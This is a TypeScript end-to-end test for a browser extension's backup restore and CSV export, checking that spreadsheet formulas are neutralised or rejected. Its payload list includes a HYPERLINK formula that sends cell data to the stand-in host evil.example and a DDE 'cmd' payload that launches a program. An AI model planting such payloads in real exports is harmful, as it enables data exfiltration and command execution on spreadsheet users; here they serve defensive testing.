/**
 * CSV injection, end to end in the options page: a backup whose free text carries spreadsheet
 * formulas is restored, and both CSV exports write every such cell as text; a backup whose ids,
 * keys or times carry them is refused with a sentence and the ledger is left as it was.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { type ExtensionSession, launchExtension, readLedgerTable } from './harness';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Id")', "=cmd|' /C calc'!A0", '+cmd|x', '=1+1', '@SUM(A1)'];
const NOW = '2026-03-01T09:00:00.000Z';

function doc(id: string, kind: 'po' | 'invoice', key: string, text: string, poKeys: string[] = []) {
  return {
    id,
    kind,
    number: text,
    key,
    looseKey: key,
    vendor: text,
    vendorKey: 'ACME',
    total: { minor: kind === 'po' ? 100000 : 120000, currency: 'EUR' },
    lines: [],
    poKeys,
    sightings: [
      { url: 'https://portal.example/', title: text, seenAt: NOW, snippet: text, confidence: 0.9, via: 'scan' },
    ],
    confirmed: [],
    conflicts: [],
    urls: ['https://portal.example/'],
    createdAt: NOW,
    updatedAt: NOW,
  };
}

function backup(spoil?: (b: { documents: Record<string, unknown>[] }) => void): Buffer {
  const b = {
    format: 'tieout-backup',
    schemaVersion: 1,
    exportedAt: NOW,
    documents: [
      doc('po-1', 'po', '4500001', FORMULAS[0]!),
      doc('inv-1', 'invoice', '9001', FORMULAS[1]!, ['4500001']),
      doc('inv-2', 'invoice', '9002', FORMULAS[2]!, ['4500001']),
    ],
    exceptions: [
      {
        id: 'over_billed:4500001:inv-1,po-1',
        type: 'over_billed',
        severity: 'high',
        docIds: ['po-1', 'inv-1'],
        poKey: '4500001',
        message: FORMULAS[3],
        openedAt: NOW,
        resolvedAt: NOW,
        resolution: { kind: 'accepted', note: FORMULAS[4], by: FORMULAS[3] },
        state: 'resolved',
      },
    ],
  };
  spoil?.(b);
  return Buffer.from(JSON.stringify(b));
}

/** OWASP's rule: what a spreadsheet would evaluate (numbers aside). */
function evaluates(cell: string): boolean {
  if (/^-?\d+(\.\d+)?$/.test(cell)) return false;
  return /^[\t\r]/.test(cell) || /^[\s\u3000]*[=+\-@＝＋－＠]/.test(cell);
}

async function download(p: Page, button: string): Promise<string[][]> {
  const [file] = await Promise.all([p.waitForEvent('download'), p.getByRole('button', { name: button }).click()]);
  return Papa.parse<string[]>(readFileSync((await file.path()) as string, 'utf8'), { newline: '\r\n' }).data;
}

describe('CSV export after a restore', () => {
  let ext: ExtensionSession;

  it('restores formula-like free text and exports every cell of both CSVs as text', async () => {
    ext = await launchExtension();
    try {
      const p = await ext.openOptions('#data');
      await p.getByTestId('counts').waitFor();
      await p.getByLabel(/Restore a backup/).setInputFiles({
        name: 'tieout-backup.json',
        mimeType: 'application/json',
        buffer: backup(),
      });
      await p.getByText(/Restored 3 documents and 1 exception/).waitFor();
      for (const button of ['Export documents (CSV)', 'Export exceptions (CSV)']) {
        const rows = await download(p, button);
        const cells = rows.slice(1).flat();
        expect(cells.filter(evaluates)).toEqual([]);
        // The formulas are there, as text a spreadsheet shows: a leading apostrophe, nothing lost.
        const quoted = FORMULAS.filter((f) => cells.includes(`'${f}`));
        expect(quoted.length).toBeGreaterThanOrEqual(button.includes('documents') ? 3 : 2);
      }

      const before = await readLedgerTable(p, 'documents');
      await p.getByLabel(/Restore a backup/).setInputFiles({
        name: 'spoilt.json',
        mimeType: 'application/json',
        buffer: backup((b) => {
          b.documents[1]!.id = FORMULAS[0];
          b.documents[2]!.poKeys = [FORMULAS[1]];
        }),
      });
      await expect
        .poll(() => p.getByRole('alert').innerText())
        .toMatch(/^The backup is damaged at documents\.1\.id: .*Nothing was changed\.$/);
      expect(await readLedgerTable(p, 'documents')).toEqual(before);
      await p.close();
    } finally {
      await ext.close();
    }
  });
});
